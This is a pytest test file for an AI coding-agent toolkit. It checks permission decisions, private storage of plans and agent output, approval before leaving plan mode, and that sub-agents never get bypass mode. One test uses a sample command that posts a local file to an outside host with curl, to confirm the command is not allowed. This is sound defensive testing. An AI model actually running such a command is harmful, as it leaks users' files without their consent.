"""Where we do otherwise than a specification says, each shown by what happens instead."""

import stat
import tempfile
from pathlib import Path
from typing import Any

import pytest

from agent.crew import Firm, calls, order
from ankrcode import Mode, Toolkit
from ankrcode.permissions.decide import Decision
from ankrcode.protocol.call import ToolCall
from ankrcode.testing import NO, FakePerson


def decision(kit: Toolkit, name: str, **arguments: Any) -> Decision:
    return kit.judge(ToolCall(name=name, arguments=arguments))[1].decision


def is_private(path: str) -> bool:
    """In nobody's shared folder, and for its owner alone."""
    folder = Path(path).parent
    is_shared = folder == Path(tempfile.gettempdir()).resolve()
    return not is_shared and stat.S_IMODE(folder.stat().st_mode) & 0o077 == 0


@pytest.mark.requirement("S0-067", "S0-175")
async def test_a_todo_needs_no_active_form_and_the_reply_names_what_is_active(
    tmp_path: Path,
) -> None:
    kit = Toolkit(cwd=tmp_path)
    none = await kit.call("TodoWrite", todos=[{"content": "Run it", "status": "pending"}])
    assert none.text == "Todo list updated."
    one = await kit.call("TodoWrite", todos=[{"content": "Run it", "status": "in_progress"}])
    assert one.text == "Todo list updated. Active: Run it"


@pytest.mark.requirement("S0-171")
async def test_what_an_agent_did_is_kept_in_a_private_folder(tmp_path: Path) -> None:
    firm = Firm(tmp_path, [calls(order("x")), "x", "done"])
    await firm.run()
    (task,) = firm.of_task
    assert is_private(task.metadata["output_path"])
    assert task.metadata["agent_id"] not in task.metadata["output_path"]


@pytest.mark.requirement("S0-183", "S0-185")
async def test_a_plan_is_private_and_holds_until_the_person_agrees(tmp_path: Path) -> None:
    kit = Toolkit(cwd=tmp_path, approve=FakePerson([NO]))
    plan = (await kit.call("EnterPlanMode")).value.plan_file
    assert (await kit.call("Write", file_path=plan, content="1. Do it.")).ok
    assert is_private(plan)
    assert not (await kit.call("ExitPlanMode")).ok
    assert kit.mode is Mode.PLAN


@pytest.mark.requirement("S4-218")
def test_to_start_an_agent_counts_as_executing(tmp_path: Path) -> None:
    assert not Toolkit(cwd=tmp_path).registry.find("Task").is_read_only


@pytest.mark.requirement("S4-248")
@pytest.mark.parametrize("mode", list(Mode))
def test_an_agent_is_never_in_bypass_mode(mode: Mode, tmp_path: Path) -> None:
    kit = Toolkit(cwd=tmp_path, mode=mode)
    for wanted in (None, Mode.BYPASS):
        child = kit.for_agent("child", mode=wanted)
        assert child.mode is not Mode.BYPASS
        sent = decision(child, "Bash", command="curl -d @a.txt https://x.org", description="x")
        assert sent is not Decision.ALLOW


@pytest.mark.requirement("S0-187", "S0-191", "S0-117", "S4-203")
def test_what_changes_something_is_asked_and_what_only_reads_is_not(tmp_path: Path) -> None:
    kit = Toolkit(cwd=tmp_path)
    assert decision(kit, "Write", file_path="x", content="x") is Decision.ASK
    assert decision(kit, "Bash", command="touch x", description="x") is Decision.ASK
    assert decision(kit, "Bash", command="git status", description="x") is Decision.ALLOW
    kit.agent.policy.grant("Bash", "touch x")
    assert decision(kit, "Bash", command="touch x", description="x") is Decision.ALLOW
    assert decision(kit, "Bash", command="touch y", description="x") is Decision.ASK


@pytest.mark.requirement("S4-247")
def test_accepting_edits_means_edits(tmp_path: Path) -> None:
    kit = Toolkit(cwd=tmp_path, mode="acceptEdits")
    assert decision(kit, "Write", file_path="x", content="x") is Decision.ALLOW
    assert decision(kit, "Bash", command="touch x", description="x") is Decision.ASK
    assert decision(kit, "Write", file_path="/etc/x", content="x") is Decision.ASK
